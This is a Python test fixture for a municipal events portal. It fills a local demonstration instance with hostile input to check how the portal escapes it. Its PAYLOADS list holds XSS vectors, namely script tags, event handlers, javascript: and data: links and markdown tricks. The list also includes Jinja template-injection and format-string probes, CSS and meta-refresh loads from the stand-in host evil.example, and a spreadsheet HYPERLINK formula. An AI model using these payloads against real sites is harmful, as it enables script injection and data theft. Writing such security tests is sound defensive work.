"""A portal whose every word means harm, in a demonstration of its own."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager
from datetime import UTC, datetime
from itertools import cycle
from pathlib import Path
from typing import Any

import sqlalchemy as sa
from flask import Flask
from sqlalchemy.orm import Session

from app import create_app
from app.kernel.drafting import mark_of
from app.kernel.markup import safe_html
from app.kernel.record import Actor
from app.kernel.scope import Scope
from app.kernel.site_texts import TEXT_KEYS
from app.kernel.text import LocalizedText
from app.models.base import db
from app.models.event import Event
from app.models.opening import SiteRequest
from app.models.scoping import within
from app.models.site import Site
from app.queries import drafts
from app.services.accounts import accounts, own
from app.services.curation import rewrite
from app.services.drafts import edits, publish
from app.services.drafts.edits import Edit
from app.services.versions import touch
from app.settings import Settings

SITE, INSEE = "nantes", "44109"
_CALL = "alert(document.domain)"
PAYLOADS = (
    f"<script>{_CALL}</script>",
    f"</title><script>{_CALL}</script>",
    f"</textarea><script>{_CALL}</script>",
    f"</style></script><svg onload={_CALL}>",
    f'"><img src=x onerror={_CALL}>',
    f"'><img src=x onerror={_CALL}>",
    f'" autofocus onfocus={_CALL} x="',
    f"' autofocus onfocus={_CALL} x='",
    f'" onmouseover="{_CALL}" style="position:fixed;inset:0" x="',
    f"`onmouseover={_CALL}`",
    f"<svg><script>{_CALL}</script></svg>",
    f"<svg><animate onbegin={_CALL} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{_CALL}'><text x=9 y=9>x</text></a></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_CALL}></style></table></math>",
    f"<details open ontoggle={_CALL}>x</details>",
    f"<iframe srcdoc='<script>parent.{_CALL}</script>'></iframe>",
    f"<iframe src=javascript:{_CALL}></iframe>",
    f"<object data=javascript:{_CALL}></object>",
    f"<embed src=javascript:{_CALL}>",
    f"<form action=javascript:{_CALL}><button autofocus>x</button></form>",
    f"<input autofocus onfocus={_CALL}>",
    f"<video><source onerror={_CALL}></video>",
    f"<body onload={_CALL}>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<img src=//evil.example/x.png>",
    "<style>@import '//evil.example/x.css';*{display:none}</style>",
    "<!--><img src=//evil.example/x.png>-->",
    f"<![CDATA[<img src=x onerror={_CALL}>]]>",
    f"[x](javascript:{_CALL})",
    f"[x](JaVaScRiPt&colon;{_CALL})",
    f"[x](java&#9;script:{_CALL})",
    f"[x](data:text/html,<script>{_CALL}</script>)",
    f"[x](vbscript:{_CALL})",
    f"![x](javascript:{_CALL})",
    "![x](//evil.example/x.png)",
    f"<javascript:{_CALL}>",
    f'[a]: javascript:{_CALL} "x"',
    f'[x](https://a.example/"onmouseover={_CALL})',
    "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "%(name)s %s %d {0} {name} ${7*7} #{7*7}",
    f"&lt;script&gt;{_CALL}&lt;/script&gt;",
    f"\ue000\ue001<img src=x onerror={_CALL}>",
    '=HYPERLINK("//evil.example")',
    "W" * 80,
    "\u202eetêf\u2066",
    f"']}};{_CALL}//",
    f'\\"}};{_CALL}//',
)
_BY = Actor(None, PAYLOADS[4])


def words(most: int) -> Iterator[str]:
    """Return payload after payload, for ever; those that fit."""
    return cycle([one for one in PAYLOADS if len(one) <= most])


@contextmanager
def beside(folder: Path, port: int) -> Iterator[tuple[Flask, Session]]:
    """Reach the rows of a demonstration that runs."""
    settings = Settings(data_dir=folder / "var", base_host=f"localhost:{port}")
    app = create_app(settings)
    with app.app_context():
        yield app, db.session()


def poison(session: Session) -> dict[str, list[int]]:
    """Give every word of a portal, of its people and of its events one that means harm.

    Return what has an address of its own: ``events`` and ``people``.
    """
    now = datetime.now(UTC)
    site = session.scalars(sa.select(Site).where(Site.slug == SITE)).one()
    people = _people(session, now)
    _facts(session, site.id, now)
    asked = words(100)
    session.add_all(
        SiteRequest(
            insee=INSEE,
            email=f"{number}@mairie.example",
            name=next(asked),
            position=next(asked),
            message=next(asked) * 3,
            state="confirmed",
            digest=f"{number:064x}",
            asked_at=now,
            confirmed_at=now,
        )
        for number in range(1, 12)
    )
    session.commit()
    return {"events": _events(session, now), "people": people}


def _people(session: Session, now: datetime) -> list[int]:
    found = []
    for number, name in enumerate(PAYLOADS[:20]):
        email = f"x'={number}/{{onload}}@hostile.example"
        token = accounts.invite(
            session, email, site_slug=SITE, role="reader", is_operator=False, by=_BY, now=now
        )
        made = accounts.accept(session, token, name=name, password=None, now=now)
        own.rename(session, made.id, f"{PAYLOADS[-number - 1]} x"[:120], now=now)
        found.append(made.id)
    accounts.invite(
        session,
        "'onload='x@hostile.example",
        site_slug=SITE,
        role="editor",
        is_operator=False,
        by=_BY,
        now=now,
    )
    return found


def _facts(session: Session, site_id: int, now: datetime) -> None:
    """Write every fact twice: what is published, and what waits."""
    for turn in range(2):
        content = drafts.draft(session, site_id).content
        asked = []
        for at, code in enumerate(content.languages):
            for place, (key, rule) in enumerate(TEXT_KEYS.items()):
                start = turn * 19 + at * 7 + place
                all_of_them = "\n\n".join(PAYLOADS[start % 5 :])
                one = [one for one in PAYLOADS if len(one) <= rule.longest]
                said = all_of_them[: rule.longest] if rule.kind == "markdown" else one[start % 40]
                asked.append((f"texts.{key}.{code}", said))
            asked += [
                (f"name.{code}", PAYLOADS[turn * 4 + at]),
                (f"brand.banner_alt.{code}", PAYLOADS[4]),
            ]
        for number, path in enumerate(
            "contact.name contact.referent contact.address contact.city legal.publisher "
            "legal.director legal.host_name legal.host_address brand.banner_credit".split()
        ):
            asked.append((path, PAYLOADS[(turn * 11 + number) % 30]))
        sent = [Edit(path, said, mark_of(content.values.get(path))) for path, said in asked]
        outcome = edits.save(session, site_id, sent, by=_BY, now=now)
        assert len(outcome.saved) > len(asked) // 2, outcome.refused
        if turn == 0:
            publish.publish(session, site_id, may=lambda _path: True, by=_BY, now=now)


def _events(session: Session, now: datetime) -> list[int]:
    """Give the events of the town hostile words, as the import road writes them."""
    found = within(
        sa.select(Event.id).where(Event.insee == INSEE, Event.ends_at > now).limit(50),
        Scope.everything(),
        Event,
    )
    numbers = list(session.scalars(found))
    said = words(250)
    for number in numbers:
        held = rewrite.hold(session, Scope.everything(), number)
        assert held
        changed: dict[str, Any] = {
            "title": LocalizedText({"fr": next(said), "en": next(said)}),
            "description": LocalizedText({"fr": next(said)}),
            "body": LocalizedText({"fr": safe_html("\n\n".join(PAYLOADS))}),
            "conditions": LocalizedText({"fr": next(said)}),
            "keywords": {"fr": [next(said), next(said)]},
            "place_name": next(said),
            "address": next(said),
            "organizer": next(said),
            "image_credit": next(said),
            "source_url": f"javascript:{_CALL}",
            "online_url": f"javascript:{_CALL}",
            "registration": [
                {"type": "link", "value": f"javascript:{_CALL}"},
                {"type": "link", "value": f"https://a.example/'\"><img src=x onerror={_CALL}>"},
                {"type": "email", "value": f"x@y.example?body=<img src=x onerror={_CALL}>"},
                {"type": "phone", "value": f'03" onclick="{_CALL}'},
            ],
        }
        rewrite.rewrite(session, held, changed, now=now)
    touch(session, insees=[INSEE])
    session.commit()
    return numbers
